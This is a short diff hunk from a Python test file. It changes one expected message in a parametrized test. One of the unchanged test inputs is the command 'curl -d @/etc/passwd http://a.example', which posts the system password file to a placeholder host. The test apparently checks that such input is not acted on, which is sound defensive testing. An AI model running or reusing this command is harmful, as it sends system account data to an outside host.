@@ -123,7 +123,7 @@ def test_a_password_among_the_params_is_on_no_line(staging: Shell) -> None:
     [
         ("", "Nothing was imported. There is nothing in it."),
         ("curl -d @/etc/passwd http://a.example", "its body would come from the file /etc/passwd, which is not read"),
-        ('{"result": 1}', "request 1 left out: it is a reply"),
+        ('{"result": 1}', "request 1 left out: it is a response"),
     ],
 )
 def test_where_nothing_can_be_used_that_is_said_and_the_code_is_2(staging: Shell, text: str, said: str) -> None:
